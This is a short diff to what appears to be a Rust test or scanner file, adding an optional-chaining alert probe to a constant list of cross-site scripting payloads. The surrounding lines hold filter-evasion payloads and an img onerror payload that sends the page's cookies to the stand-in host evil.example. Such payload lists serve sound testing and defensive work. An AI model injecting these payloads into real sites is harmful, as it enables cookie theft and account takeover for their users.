@@ -125,6 +125,7 @@ const XSS: &[&str] = &[
     "<x onxxx=1 onxxx=1",
     "<x/onpointerenter=1",
     "top[\"al\"+\"ert\"](1)",
+    "alert?.(document.domain)",
     "<img src=x onerror=\"location='//evil.example/?'+document.cookie\">",
 ];
 
